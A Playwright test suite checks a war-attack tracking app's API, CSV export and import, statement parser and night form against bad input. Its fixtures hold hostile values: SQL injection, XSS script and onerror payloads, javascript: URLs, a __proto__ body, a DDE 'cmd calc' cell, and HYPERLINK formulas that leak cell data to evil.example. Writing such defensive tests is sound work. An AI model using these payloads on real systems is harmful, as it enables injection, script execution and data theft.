// Bad input, tried systematically: malformed, oversized, wrong-type and hostile values against the JSON
// night API, the export and JSON filters, the statement parser, the importer and the night form. Each row
// names its request and what must come back: a 4xx with a message that says what is wrong (and nothing
// written: every table a caller could change is counted before and after), or, for text that is
// legitimately storable, a 2xx with the text stored verbatim and shown back as text. After the table the
// server must still answer. Dates: the reliability partition (2022-01-01..2022-09-30), avoiding 2022-03-14
// and 2022-03-15 (e2e/night-api.spec.ts). The statement parser's rate limit is shared by the whole run:
// its rows stay few (see e2e/statement-api.spec.ts, which exhausts the limit at the end).
import { parse as parseCsv } from 'csv-parse/sync';
import { expect, test, type APIRequestContext, type Page } from '@playwright/test';
import { countInput, fillNewNight, type NightEntry } from './editor-helpers';
import { editorStatePath } from './helpers';
import { editorCookieHeader, mainServerURL, sendChunked } from './raw-requests';
import { storedNightText, tableNames, writeCounts, type StoredNightText } from './write-counts';

const MB = 1024 * 1024;
/** Refused rows aim at this date: it must still hold no night after each of them. */
const REFUSED_DATE = '2022-05-02';
const PUT_REFUSED = `/api/nights/${REFUSED_DATE}`;
const OWN_HEADER = 'date,target,weapon,category,class,launched,shot_down,lost,source_url';

const SQL = "'; DROP TABLE nights; --";
const HTML = `<script>window.__hostile = 'script'</script></script><img src="x" onerror="window.__hostile = 'img'"><b>bold</b>`;
const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")';

type RawRequest = {
  method: 'GET' | 'PUT' | 'POST' | 'DELETE';
  path: string;
  /** Sent as JSON (Content-Type set to application/json). */
  json?: unknown;
  /** Sent as these exact bytes. */
  body?: Buffer;
  headers?: Record<string, string>;
  /** A body streamed in chunks with no Content-Length: the route must stop reading at its limit. */
  chunked?: { totalBytes: number; fill: number };
};

type ImportExpectation = { status: 'refused' | 'ready'; fatal?: RegExp; rowError?: RegExp };

type Expected = {
  status: number;
  /** The JSON answer's `error`. */
  error?: RegExp;
  /** One entry of the JSON answer's `fields`, by the JSON path the caller sent. */
  field?: [string, RegExp];
  /** The whole answer as text (for text/plain answers). */
  text?: RegExp;
  /** The import route's final NDJSON report. */
  report?: ImportExpectation;
};

type Tools = { page: Page; editor: APIRequestContext; anonymous: APIRequestContext };

type Row = {
  name: string;
  as: 'editor' | 'anonymous';
  request: RawRequest;
  expect: Expected;
  /** Legitimately storable text: the night this row creates, with its fields as they must be stored. */
  stores?: { date: string; fields: Partial<StoredNightText> };
  /** Further checks once answered: how the stored text shows on a page, what an export holds. */
  then?: (tools: Tools) => Promise<void>;
};

const put = (json: unknown, path = PUT_REFUSED): RawRequest => ({ method: 'PUT', path, json });
const oneFigure = (figure: Record<string, unknown>) => ({ figures: [{ weapon: 'Kalibr', ...figure }] });
const kalibr = { figures: [{ weapon: 'Kalibr', launched: 4, shot_down: 3 }] };
const refused = (field: string, message: RegExp): Expected => ({ status: 400, error: /not valid/, field: [field, message] });

// ---------------------------------------------------------------------------------------------------
// PUT /api/nights/DATE and DELETE, as a signed-in editor: everything but the session is wrong.
const nightApiRows: Row[] = [
  {
    name: 'an SQL fragment as a weapon name is an unknown weapon',
    as: 'editor',
    request: put({ figures: [{ weapon: `Kalibr${SQL}`, launched: 1 }] }),
    expect: refused('figures.0.weapon', /Unknown weapon/),
  },
  {
    name: 'an SQL fragment in the URL date is not a date',
    as: 'editor',
    request: put(kalibr, `/api/nights/${encodeURIComponent(`2022-05-02${SQL}`)}`),
    expect: { status: 400, error: /real YYYY-MM-DD date/ },
  },
  {
    name: 'an SQL fragment as the target is refused',
    as: 'editor',
    request: put(kalibr, `${PUT_REFUSED}?target=${encodeURIComponent(`UA${SQL}`)}`),
    expect: { status: 400, error: /target must be UA or RU/ },
  },
  {
    name: 'an SQL fragment as a count is not a number',
    as: 'editor',
    request: put(oneFigure({ launched: `1${SQL}` })),
    expect: refused('figures.0.launched', /JSON number, or null/),
  },
  {
    name: 'a javascript: source URL is refused',
    as: 'editor',
    request: put({ ...kalibr, source_url: 'javascript:alert(document.cookie)' }),
    expect: refused('source_url', /starting with http:\/\/ or https:\/\//),
  },
  {
    name: 'a formula as the source URL is refused',
    as: 'editor',
    request: put({ ...kalibr, source_url: FORMULA }),
    expect: refused('source_url', /starting with http:\/\/ or https:\/\//),
  },
  {
    name: 'a data: source URL is refused',
    as: 'editor',
    request: put({ ...kalibr, source_url: 'data:text/html,<script>alert(1)</script>' }),
    expect: refused('source_url', /starting with http:\/\/ or https:\/\//),
  },
  {
    name: 'a count of 1e308 is too large',
    as: 'editor',
    request: put(oneFigure({ launched: 1e308 })),
    expect: refused('figures.0.launched', /Cannot be more than 100,000/),
  },
  {
    name: 'a count of 2^53 is too large',
    as: 'editor',
    request: put(oneFigure({ launched: 2 ** 53 })),
    expect: refused('figures.0.launched', /Cannot be more than 100,000/),
  },
  {
    name: 'a count of 100,001 is too large',
    as: 'editor',
    request: put(oneFigure({ launched: 100_001 })),
    expect: refused('figures.0.launched', /Cannot be more than 100,000/),
  },
  {
    name: 'a negative count is refused',
    as: 'editor',
    request: put(oneFigure({ launched: 10, shot_down: -1 })),
    expect: refused('figures.0.shot_down', /Cannot be negative/),
  },
  {
    name: 'a fraction is refused',
    as: 'editor',
    request: put(oneFigure({ launched: 2.5 })),
    expect: refused('figures.0.launched', /whole number/),
  },
  {
    name: 'a count sent as a string is refused',
    as: 'editor',
    request: put(oneFigure({ launched: '12' })),
    expect: refused('figures.0.launched', /JSON number, or null/),
  },
  {
    name: 'a count sent as true is refused',
    as: 'editor',
    request: put(oneFigure({ launched: true })),
    expect: refused('figures.0.launched', /JSON number, or null/),
  },
  {
    name: 'lost above launched is refused',
    as: 'editor',
    request: put(oneFigure({ launched: 2, lost: 3 })),
    expect: refused('figures.0.lost', /cannot exceed launched/),
  },
  {
    name: 'a figure with no count at all is refused',
    as: 'editor',
    request: put(oneFigure({ launched: null, shot_down: null })),
    expect: refused('figures.0.launched', /at least one count/),
  },
  {
    name: 'the date 2025-02-30 does not exist',
    as: 'editor',
    request: put(kalibr, '/api/nights/2025-02-30'),
    expect: { status: 400, error: /real YYYY-MM-DD date/ },
  },
  {
    name: 'the date 2025-13-01 does not exist',
    as: 'editor',
    request: put(kalibr, '/api/nights/2025-13-01'),
    expect: { status: 400, error: /real YYYY-MM-DD date/ },
  },
  {
    name: 'the date 0000-00-00 does not exist',
    as: 'editor',
    request: put(kalibr, '/api/nights/0000-00-00'),
    expect: { status: 400, error: /real YYYY-MM-DD date/ },
  },
  {
    name: 'the date 9999-12-31 is in the future',
    as: 'editor',
    request: put(kalibr, '/api/nights/9999-12-31'),
    expect: refused('date', /cannot be in the future/),
  },
  {
    name: 'a date without leading zeros is refused',
    as: 'editor',
    request: put(kalibr, '/api/nights/2022-5-2'),
    expect: { status: 400, error: /real YYYY-MM-DD date/ },
  },
  {
    name: 'target=XX is refused',
    as: 'editor',
    request: put(kalibr, `${PUT_REFUSED}?target=XX`),
    expect: { status: 400, error: /target must be UA or RU/ },
  },
  {
    name: 'a body naming another target than the URL is refused',
    as: 'editor',
    request: put({ ...kalibr, target: 'RU' }),
    expect: { status: 400, error: /another target than the URL/ },
  },
  {
    name: 'a 10 MB body is refused by its Content-Length',
    as: 'editor',
    request: { method: 'PUT', path: PUT_REFUSED, body: Buffer.alloc(10 * MB, 0x20), headers: { 'content-type': 'application/json' } },
    expect: { status: 413, error: /larger than 256 KB/ },
  },
  {
    name: 'a 10 MB body streamed without Content-Length is cut off at the limit',
    as: 'editor',
    request: { method: 'PUT', path: PUT_REFUSED, chunked: { totalBytes: 10 * MB, fill: 0x20 }, headers: { 'content-type': 'application/json' } },
    expect: { status: 413, error: /larger than 256 KB/ },
  },
  {
    name: 'a body with invalid UTF-8 bytes is refused',
    as: 'editor',
    request: {
      method: 'PUT',
      path: PUT_REFUSED,
      body: Buffer.concat([Buffer.from('{"notes":"'), Buffer.from([0xff, 0xfe, 0xc3]), Buffer.from(`",${JSON.stringify(kalibr).slice(1)}`)]),
      headers: { 'content-type': 'application/json' },
    },
    expect: { status: 400, error: /not valid UTF-8/ },
  },
  {
    name: 'JSON sent as text/plain is refused',
    as: 'editor',
    request: { method: 'PUT', path: PUT_REFUSED, body: Buffer.from(JSON.stringify(kalibr)), headers: { 'content-type': 'text/plain' } },
    expect: { status: 415, error: /Content-Type: application\/json/ },
  },
  {
    name: 'a form-encoded body is refused',
    as: 'editor',
    request: {
      method: 'PUT',
      path: PUT_REFUSED,
      body: Buffer.from('figures[0][weapon]=Kalibr&figures[0][launched]=4'),
      headers: { 'content-type': 'application/x-www-form-urlencoded' },
    },
    expect: { status: 415, error: /Content-Type: application\/json/ },
  },
  {
    name: 'an extra top-level field is refused',
    as: 'editor',
    request: put({ ...kalibr, id: 1, created_at: 0 }),
    expect: refused('body', /Unrecognized keys?: "id", "created_at"/),
  },
  {
    name: 'an extra field in a figure is refused',
    as: 'editor',
    request: put({ figures: [{ weapon: 'Kalibr', launched: 4, night_id: 1 }] }),
    expect: refused('figures.0', /Unrecognized key: "night_id"/),
  },
  {
    name: 'a __proto__ key is refused, not merged',
    as: 'editor',
    request: { method: 'PUT', path: PUT_REFUSED, body: Buffer.from(`{"__proto__":{"version":1},${JSON.stringify(kalibr).slice(1)}`), headers: { 'content-type': 'application/json' } },
    expect: refused('body', /Unrecognized key: "__proto__"/),
  },
  {
    name: 'an empty body is refused',
    as: 'editor',
    request: { method: 'PUT', path: PUT_REFUSED, body: Buffer.alloc(0), headers: { 'content-type': 'application/json' } },
    expect: { status: 400, error: /has no body/ },
  },
  {
    name: 'a JSON null body has no figures',
    as: 'editor',
    request: { method: 'PUT', path: PUT_REFUSED, body: Buffer.from('null'), headers: { 'content-type': 'application/json' } },
    expect: refused('figures', /expected array/),
  },
  {
    name: '101 figure rows are too many',
    as: 'editor',
    request: put({ figures: Array.from({ length: 101 }, () => ({ weapon: 'Kalibr', launched: 1 })) }),
    expect: refused('figures', /at most 100|<=100/),
  },
  {
    name: 'the same weapon twice (in two spellings) is refused',
    as: 'editor',
    request: put({ figures: [{ weapon: 'Kh-101', launched: 1 }, { weapon: 'X-101', launched: 2 }] }),
    expect: refused('figures.1.weaponId', /already has a row/),
  },
  {
    name: 'notes over 5,000 characters are refused',
    as: 'editor',
    request: put({ ...kalibr, notes: 'n'.repeat(5001) }),
    expect: refused('notes', /limited to 5,000 characters/),
  },
  {
    name: 'a weapon name of 5,000 characters is refused',
    as: 'editor',
    request: put({ figures: [{ weapon: 'K'.repeat(5000), launched: 1 }] }),
    expect: refused('figures.0.weapon', /200/),
  },

  // Storable text: stored exactly as sent, and shown as text.
  {
    name: 'SQL fragments in notes, statement and source name are stored verbatim as text',
    as: 'editor',
    request: put({ ...kalibr, notes: SQL, statement: `Robert${SQL}`, source_name: `x' OR '1'='1` }, '/api/nights/2022-06-01'),
    expect: { status: 201 },
    stores: { date: '2022-06-01', fields: { notes: SQL, statement: `Robert${SQL}`, source_name: `x' OR '1'='1` } },
    then: async () => {
      expect(tableNames()).toEqual(expect.arrayContaining(['figures', 'nights', 'revisions', 'weapons']));
    },
  },
  {
    name: 'HTML and script in notes, statement and source name are stored, then shown as text and never run',
    as: 'editor',
    request: put(
      { ...kalibr, notes: HTML, statement: `Statement ${HTML}`, source_name: `Source ${HTML}`, source_url: 'https://example.org/2022-06-02' },
      '/api/nights/2022-06-02',
    ),
    expect: { status: 201 },
    stores: { date: '2022-06-02', fields: { notes: HTML, statement: `Statement ${HTML}`, source_name: `Source ${HTML}` } },
    then: async ({ page }) => {
      await expectShownAsText(page, '/nights/2022-06-02', [HTML, `Statement ${HTML}`, `Source ${HTML}`]);
    },
  },
  {
    name: 'formula cells in notes and source name are stored, and the export carries no formula',
    as: 'editor',
    request: put(
      { ...kalibr, notes: FORMULA, source_name: `@SUM(1+1)*cmd|' /C calc'!A0`, source_url: 'https://example.org/?q==1+1' },
      '/api/nights/2022-06-03',
    ),
    expect: { status: 201 },
    stores: { date: '2022-06-03', fields: { notes: FORMULA, source_name: `@SUM(1+1)*cmd|' /C calc'!A0`, source_url: 'https://example.org/?q==1+1' } },
    then: async ({ anonymous }) => {
      const rows = await exportRows(anonymous, '2022-06-03');
      expect(rows).toEqual([['2022-06-03', 'UA', 'Kalibr', 'missile', 'cruise', '4', '3', '', 'https://example.org/?q==1+1']]);
      for (const cell of rows.flat()) expect(cell, 'no exported cell starts a formula').not.toMatch(/^[=+\-@\t\r＝＋－＠]/);
    },
  },
  {
    name: 'control characters in notes (other than tab and line break) are refused, saying which and where',
    as: 'editor',
    request: put({ ...kalibr, notes: 'a\u0000b\u0007c' }),
    expect: refused('notes', /control character \(U\+0000\) at character 2/),
  },
  {
    name: 'a right-to-left override in notes is stored verbatim and the page renders',
    as: 'editor',
    request: put({ ...kalibr, notes: 'a\tb\nc \u202Egnp.exe\u202C ✓' }, '/api/nights/2022-06-04'),
    expect: { status: 201 },
    stores: { date: '2022-06-04', fields: { notes: 'a\tb\nc \u202Egnp.exe\u202C ✓' } },
    then: async ({ page }) => {
      const response = await page.goto('/nights/2022-06-04');
      expect(response?.status()).toBe(200);
      await expect(page.getByRole('heading', { level: 1 })).toContainText('Night of 4 June 2022');
    },
  },

  // DELETE with a bad version, on a stored night (2022-06-01, created above): refused, the night stays.
  {
    name: 'DELETE with a body is refused before the body is read',
    as: 'editor',
    request: { method: 'DELETE', path: '/api/nights/2022-06-01?version=1', body: Buffer.from('{"version":1}'), headers: { 'content-type': 'application/json' } },
    expect: { status: 413, error: /takes no body/ },
  },
  {
    name: 'a PUT body with no Content-Type is refused',
    as: 'editor',
    request: { method: 'PUT', path: PUT_REFUSED, body: Buffer.from(JSON.stringify(kalibr)) },
    expect: { status: 415, error: /Content-Type: application\/json/ },
  },
  {
    name: 'DELETE with version=abc is refused',
    as: 'editor',
    request: { method: 'DELETE', path: '/api/nights/2022-06-01?version=abc' },
    expect: { status: 400, error: /Send \?version=/ },
  },
  {
    name: 'DELETE with version=1e308 is refused',
    as: 'editor',
    request: { method: 'DELETE', path: '/api/nights/2022-06-01?version=1e308' },
    expect: { status: 400, error: /Send \?version=/ },
  },
  {
    name: 'DELETE with version=0x1 is refused',
    as: 'editor',
    request: { method: 'DELETE', path: '/api/nights/2022-06-01?version=0x1' },
    expect: { status: 400, error: /Send \?version=/ },
  },
  {
    name: 'DELETE with an SQL fragment as the version is refused',
    as: 'editor',
    request: { method: 'DELETE', path: `/api/nights/2022-06-01?version=${encodeURIComponent(`1 OR 1=1${SQL}`)}` },
    expect: { status: 400, error: /Send \?version=/ },
  },
];

// ---------------------------------------------------------------------------------------------------
// GET /api/nights and /export.csv filters, as anyone.
const longValue = '9'.repeat(5000);
const filterRows: Row[] = [
  ...(['/api/nights', '/export.csv'] as const).flatMap((route): Row[] => {
    const refusedFilter = (query: string, message: RegExp): Pick<Row, 'request' | 'expect'> => ({
      request: { method: 'GET', path: `${route}?${query}` },
      expect: route === '/api/nights' ? { status: 400, error: message } : { status: 400, text: message },
    });
    return [
      { name: `${route}: from=2025-02-30 is not a date`, as: 'anonymous', ...refusedFilter('from=2025-02-30', /"from" must be a real date/) },
      { name: `${route}: from after to is refused`, as: 'anonymous', ...refusedFilter('from=2022-09-30&to=2022-01-01', /"from" \(2022-09-30\) is after "to"/) },
      { name: `${route}: target=XX is refused`, as: 'anonymous', ...refusedFilter('target=XX', /"target" must be one of UA, RU/) },
      {
        name: `${route}: an SQL fragment as a date is refused`,
        as: 'anonymous',
        ...refusedFilter(`from=${encodeURIComponent(`2022-01-01' OR 1=1 --`)}`, /"from" must be a real date/),
      },
      {
        name: `${route}: a 5,000-character value is refused with a short message`,
        as: 'anonymous',
        ...refusedFilter(`to=${longValue}`, /"to" must be a real date written YYYY-MM-DD \(got "9{40}…"\)/),
      },
      { name: `${route}: invalid percent-encoded bytes and NUL are refused`, as: 'anonymous', ...refusedFilter('from=%FF%FE%00', /"from" must be a real date/) },
    ];
  }),
  {
    name: '/export.csv: a 5,000-character target is refused with a short message',
    as: 'anonymous',
    request: { method: 'GET', path: `/export.csv?target=${'X'.repeat(5000)}` },
    expect: { status: 400, text: /"target" must be one of UA, RU \(got "X{40}…"\)/ },
  },
  {
    name: '/api/nights: a repeated parameter takes its first value',
    as: 'anonymous',
    request: { method: 'GET', path: '/api/nights?from=2022-06-01&from=2099-01-01&to=2022-06-30&to=2000-01-01' },
    expect: { status: 200 },
    then: async ({ anonymous }) => {
      const response = await anonymous.get('/api/nights?from=2022-06-01&from=2099-01-01&to=2022-06-30&to=2000-01-01');
      const dates = ((await response.json()) as { nights: { date: string }[] }).nights.map((night) => night.date);
      expect(dates).toEqual(expect.arrayContaining(['2022-06-01', '2022-06-02', '2022-06-03']));
      for (const date of dates) expect(date >= '2022-06-01' && date <= '2022-06-30', date).toBe(true);
    },
  },
  {
    name: '/export.csv: a repeated target takes its first value',
    as: 'anonymous',
    request: { method: 'GET', path: '/export.csv?target=RU&target=UA&from=2022-06-01&to=2022-06-30' },
    expect: { status: 200, text: /^date,target,weapon,category,class,launched,shot_down,lost,source_url\r\n$/ },
  },
  {
    name: '/api/nights: to=9999-12-31 is an open range, not an error',
    as: 'anonymous',
    request: { method: 'GET', path: '/api/nights?from=2022-06-01&to=9999-12-31' },
    expect: { status: 200 },
  },
];

// ---------------------------------------------------------------------------------------------------
// POST /api/statements/parse, as anyone. Eight rows: the rate limit (60 a minute) is shared by the run.
const PARSE = '/api/statements/parse';
const parseBody = (body: Buffer): RawRequest => ({ method: 'POST', path: PARSE, body, headers: { 'content-type': 'application/json' } });
const parseRows: Row[] = [
  { name: 'parse: a body that is not JSON', as: 'anonymous', request: parseBody(Buffer.from('text=Russia launched 5 drones')), expect: { status: 400, error: /not JSON/ } },
  { name: 'parse: text missing', as: 'anonymous', request: parseBody(Buffer.from('{"statement":"5 drones"}')), expect: { status: 400, error: /"text"/ } },
  { name: 'parse: text not a string', as: 'anonymous', request: parseBody(Buffer.from('{"text":["Russia launched 5 drones"]}')), expect: { status: 400, error: /as a string/ } },
  { name: 'parse: empty text', as: 'anonymous', request: parseBody(Buffer.from('{"text":""}')), expect: { status: 400, error: /empty/ } },
  {
    name: 'parse: text over 20,000 characters',
    as: 'anonymous',
    request: parseBody(Buffer.from(JSON.stringify({ text: 'drones '.repeat(3000) }))),
    expect: { status: 400, error: /longer than 20,000 characters/ },
  },
  { name: 'parse: a 10 MB body', as: 'anonymous', request: parseBody(Buffer.alloc(10 * MB, 0x20)), expect: { status: 400, error: /larger than 256 KB/ } },
  {
    name: 'parse: invalid UTF-8 bytes',
    as: 'anonymous',
    request: parseBody(Buffer.concat([Buffer.from('{"text":"Russia launched 5 drones '), Buffer.from([0xff, 0xfe]), Buffer.from('"}')])),
    expect: { status: 400, error: /not valid UTF-8/ },
  },
  {
    name: 'parse: script tags in the text come back as data, not markup',
    as: 'anonymous',
    request: parseBody(Buffer.from(JSON.stringify({ text: `${HTML} Russia launched 5 Shahed drones overnight.` }))),
    expect: { status: 200, text: /^(?!.*<script).*"launched":5/s },
  },
];

// ---------------------------------------------------------------------------------------------------
// POST /api/import as an editor: the file is the body. A refused file is answered with a report that
// says why, and nothing is written (previews never write; the apply rows below check that too).
const importRequest = (file: string | Buffer, query = 'mode=preview'): RawRequest => ({
  method: 'POST',
  path: `/api/import?${query}`,
  body: typeof file === 'string' ? Buffer.from(file) : file,
  headers: { 'content-type': 'text/csv', 'x-file-name': encodeURIComponent('hostile.csv') },
});
const ownFile = (...rows: string[]) => [OWN_HEADER, ...rows, ''].join('\r\n');
const importRefused = (file: string | Buffer, expected: Omit<ImportExpectation, 'status'>): Pick<Row, 'request' | 'expect'> => ({
  request: importRequest(file),
  expect: { status: 200, report: { status: 'refused', ...expected } },
});
const GARBAGE = Buffer.from(Array.from({ length: 4096 }, (_, i) => (i * 167 + 13) % 256));
const FORMULA_WEAPON = '=HYPERLINK("http://evil.example","drone")';
const importRows: Row[] = [
  { name: 'import: garbage bytes', as: 'editor', ...importRefused(GARBAGE, { fatal: /not UTF-8 text/ }) },
  { name: 'import: text that is not CSV of either format', as: 'editor', ...importRefused('hello\nworld, and more\n', { fatal: /unrecognised header/ }) },
  {
    name: 'import: a semicolon-separated file',
    as: 'editor',
    ...importRefused(`${OWN_HEADER.replaceAll(',', ';')}\n2022-05-02;UA;Kalibr;missile;cruise;3;2;;\n`, { fatal: /separates its columns with semicolons/ }),
  },
  { name: 'import: a count of "abc"', as: 'editor', ...importRefused(ownFile('2022-05-02,UA,Kalibr,missile,cruise,abc,,,'), { rowError: /launched: "abc" is not a number/ }) },
  { name: 'import: a negative count', as: 'editor', ...importRefused(ownFile('2022-05-02,UA,Kalibr,missile,cruise,5,-5,,'), { rowError: /shot_down: "-5" is negative/ }) },
  {
    name: 'import: fractions and huge counts',
    as: 'editor',
    ...importRefused(ownFile('2022-05-02,UA,Kalibr,missile,cruise,2.5,1e308,100001,'), { rowError: /"2\.5" is not a whole number.*"1e308" is not a whole number.*"100001" is more than 100,000/ }),
  },
  { name: 'import: the date 2025-02-30', as: 'editor', ...importRefused(ownFile('2025-02-30,UA,Kalibr,missile,cruise,1,,,'), { rowError: /"2025-02-30" is not a real date/ }) },
  { name: 'import: a date in the future', as: 'editor', ...importRefused(ownFile('9999-12-31,UA,Kalibr,missile,cruise,1,,,'), { rowError: /9999-12-31 is in the future/ }) },
  { name: 'import: an SQL fragment as the target', as: 'editor', ...importRefused(ownFile(`2022-05-02,UA${SQL},Kalibr,missile,cruise,1,,,`), { rowError: /is not UA or RU/ }) },
  { name: 'import: a javascript: source URL', as: 'editor', ...importRefused(ownFile('2022-05-02,UA,Kalibr,missile,cruise,1,,,javascript:alert(1)'), { rowError: /source_url: Enter a web address/ }) },
  { name: 'import: broken quoting', as: 'editor', ...importRefused(ownFile('2022-05-02,UA,"Kalibr,missile,cruise,1,,,'), { fatal: /Broken quoting/ }) },
  { name: 'import: an empty file', as: 'editor', ...importRefused(Buffer.alloc(0), { fatal: /empty/ }) },
  { name: 'import: a 10 MB file of one line', as: 'editor', ...importRefused(Buffer.alloc(10 * MB, 0x61), { fatal: /row longer than 100,000 characters/ }) },
  {
    name: 'import: a 25 MB body over the 20 MB limit',
    as: 'editor',
    request: importRequest(Buffer.alloc(25 * MB, 0x61)),
    expect: { status: 413, error: /larger than 20 MB/ },
  },
  {
    name: 'import: a file sent as text/plain (what another site may send unasked) is refused',
    as: 'editor',
    request: { ...importRequest(ownFile('2022-05-02,UA,Kalibr,missile,cruise,3,,,')), headers: { 'content-type': 'text/plain' } },
    expect: { status: 415, error: /Content-Type: text\/csv/ },
  },
  {
    name: 'import: a file sent as a form is refused',
    as: 'editor',
    request: { ...importRequest(ownFile('2022-05-02,UA,Kalibr,missile,cruise,3,,,')), headers: { 'content-type': 'multipart/form-data; boundary=x' } },
    expect: { status: 415, error: /Content-Type: text\/csv/ },
  },
  {
    name: "import: mode=apply with a made-up token is refused",
    as: 'editor',
    request: importRequest(ownFile('2022-05-02,UA,Kalibr,missile,cruise,3,,,'), 'mode=apply&digest=1a2b3c'),
    expect: { status: 403, error: /preview the file again/ },
  },
  { name: 'import: mode=drop is refused', as: 'editor', request: importRequest(ownFile(), 'mode=drop'), expect: { status: 400, error: /mode=preview or mode=apply/ } },
  { name: 'import: mode=apply without a digest is refused', as: 'editor', request: importRequest(ownFile(), 'mode=apply'), expect: { status: 400, error: /needs the digest/ } },
  {
    name: "import: a file with a bad row, applied with its own preview's digest, writes nothing",
    as: 'editor',
    request: importRequest(ownFile('2022-05-02,UA,Kalibr,missile,cruise,3,,,', '2022-05-03,UA,Kalibr,missile,cruise,abc,,,')),
    expect: { status: 200, report: { status: 'refused', rowError: /"abc" is not a number/ } },
    then: async ({ editor }) => {
      const file = ownFile('2022-05-02,UA,Kalibr,missile,cruise,3,,,', '2022-05-03,UA,Kalibr,missile,cruise,abc,,,');
      const preview = await importReport(editor, file, 'mode=preview');
      const before = writeCounts();
      const applied = await importReport(editor, file, `mode=apply&digest=${preview.digest ?? 'none'}`);
      expect(applied).toMatchObject({ status: 'refused', applied: false });
      expect(writeCounts()).toEqual(before);
      expect(storedNightText('2022-05-02')).toBeUndefined();
    },
  },
  {
    name: 'import: a formula as a weapon name is stored verbatim and neutralised in the export',
    as: 'editor',
    request: importRequest(ownFile(`2022-06-20,UA,"${FORMULA_WEAPON.replaceAll('"', '""')}",drone,unknown,3,2,,`)),
    expect: { status: 200, report: { status: 'ready' } },
    then: async ({ editor, anonymous, page }) => {
      const file = ownFile(`2022-06-20,UA,"${FORMULA_WEAPON.replaceAll('"', '""')}",drone,unknown,3,2,,`);
      const preview = await importReport(editor, file, 'mode=preview');
      expect(preview.weaponsToCreate).toEqual([expect.objectContaining({ name: FORMULA_WEAPON })]);
      const applied = await importReport(editor, file, `mode=apply&digest=${preview.digest}`);
      expect(applied).toMatchObject({ status: 'imported', applied: true });
      expect(await exportRows(anonymous, '2022-06-20')).toEqual([['2022-06-20', 'UA', `'${FORMULA_WEAPON}`, 'drone', 'unknown', '3', '2', '', '']]);
      await page.goto('/nights/2022-06-20');
      // The row header names the weapon, then its class.
      await expect(page.getByRole('rowheader').filter({ hasText: FORMULA_WEAPON })).toBeVisible();
    },
  },
];

// ---------------------------------------------------------------------------------------------------
// The night form through the browser, as an editor.
type FormRow = {
  name: string;
  night: NightEntry;
  expect:
    | { saved: true; shown: string[]; stored: Partial<StoredNightText> }
    | { field: (page: Page) => ReturnType<Page['getByLabel']>; message: RegExp };
};
const formRows: FormRow[] = [
  {
    name: 'form: a script tag in the notes is saved and shown back as text',
    night: { date: '2022-07-01', notes: HTML, figures: [{ weapon: 'Kalibr', launched: '2' }] },
    expect: { saved: true, shown: [HTML], stored: { notes: HTML } },
  },
  {
    name: 'form: an SQL fragment in the source name is saved verbatim',
    night: { date: '2022-07-02', sourceName: `Air Force${SQL}`, sourceUrl: 'https://example.org/2022-07-02', figures: [{ weapon: 'Kalibr', launched: '2' }] },
    expect: { saved: true, shown: [`Air Force${SQL}`], stored: { source_name: `Air Force${SQL}` } },
  },
  {
    name: 'form: a javascript: URL is refused beside the field',
    night: { date: '2022-07-10', sourceUrl: 'javascript:alert(document.cookie)', figures: [{ weapon: 'Kalibr', launched: '2' }] },
    expect: { field: (page) => page.getByLabel('Source URL'), message: /Enter a web address starting with http:\/\/ or https:\/\// },
  },
  {
    name: 'form: a formula as the source URL is refused beside the field',
    night: { date: '2022-07-10', sourceUrl: FORMULA, figures: [{ weapon: 'Kalibr', launched: '2' }] },
    expect: { field: (page) => page.getByLabel('Source URL'), message: /Enter a web address starting with http:\/\/ or https:\/\// },
  },
  {
    name: 'form: 1e308 as a count is refused beside the field',
    night: { date: '2022-07-10', figures: [{ weapon: 'Kalibr', launched: '1e308' }] },
    expect: { field: (page) => countInput(page, 'Launched', 'Kalibr'), message: /Enter a whole number/ },
  },
  {
    name: 'form: 100001 as a count is refused beside the field',
    night: { date: '2022-07-10', figures: [{ weapon: 'Kalibr', launched: '100001' }] },
    expect: { field: (page) => countInput(page, 'Launched', 'Kalibr'), message: /Cannot be more than 100,000/ },
  },
  {
    name: 'form: a negative count is refused beside the field',
    night: { date: '2022-07-10', figures: [{ weapon: 'Kalibr', launched: '5', shotDown: '-1' }] },
    expect: { field: (page) => countInput(page, 'Shot down', 'Kalibr'), message: /Enter a whole number/ },
  },
  {
    name: 'form: a date in the future is refused beside the field',
    night: { date: '2099-01-01', figures: [{ weapon: 'Kalibr', launched: '2' }] },
    expect: { field: (page) => page.getByLabel('Date', { exact: true }), message: /cannot be in the future/ },
  },
];

// ---------------------------------------------------------------------------------------------------

/** The export's data rows for one date (UA), parsed as CSV. */
async function exportRows(api: APIRequestContext, date: string): Promise<string[][]> {
  const response = await api.get(`/export.csv?from=${date}&to=${date}`);
  expect(response.status()).toBe(200);
  return parseCsv(await response.text(), { from_line: 2 }) as string[][];
}

type Report = { status: string; applied: boolean; fatal: string | null; errors: { message: string }[]; digest: string | null; weaponsToCreate: { name: string }[] };

function reportOf(ndjson: string): Report {
  const lines = ndjson.trim().split('\n').map((line) => JSON.parse(line) as { type: string; report?: Report });
  const last = lines.at(-1);
  if (last?.type !== 'report' || !last.report) throw new Error(`the import answered without a report: ${ndjson.slice(0, 300)}`);
  return last.report;
}

async function importReport(api: APIRequestContext, file: string, query: string): Promise<Report> {
  const request = importRequest(file, query);
  const response = await api.post(request.path, { data: request.body, headers: request.headers });
  expect(response.status()).toBe(200);
  return reportOf(await response.text());
}

/** Opens a night page and checks each text shows as text: no dialog, no element, no script run. */
async function expectShownAsText(page: Page, path: string, texts: string[]) {
  const dialogs: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  const response = await page.goto(path);
  expect(response?.status()).toBe(200);
  for (const text of texts) {
    const shown = page.getByText(text, { exact: true });
    await expect(shown).toHaveCount(1);
    // The text is the element's own text: no tag in it became an element.
    await expect(shown.locator('*')).toHaveCount(0);
  }
  await expect(page.locator('img[src="x"]')).toHaveCount(0);
  await expect(page.locator('main b')).toHaveCount(0);
  expect(await page.evaluate(() => (window as unknown as { __hostile?: string }).__hostile)).toBeUndefined();
  expect(dialogs).toEqual([]);
}

async function send(row: Row, tools: Tools): Promise<{ status: number; text: string }> {
  const { request } = row;
  if (request.chunked) {
    const headers = { ...request.headers, ...(row.as === 'editor' ? { cookie: editorCookieHeader() } : {}) };
    if (request.method !== 'PUT' && request.method !== 'POST') throw new Error('only PUT and POST carry a body');
    return sendChunked(request.method, request.path, { ...request.chunked, headers });
  }
  const api = row.as === 'editor' ? tools.editor : tools.anonymous;
  const response = await api.fetch(request.path, {
    method: request.method,
    headers: request.headers,
    data: request.json ?? request.body,
    maxRedirects: 0,
  });
  return { status: response.status(), text: await response.text() };
}

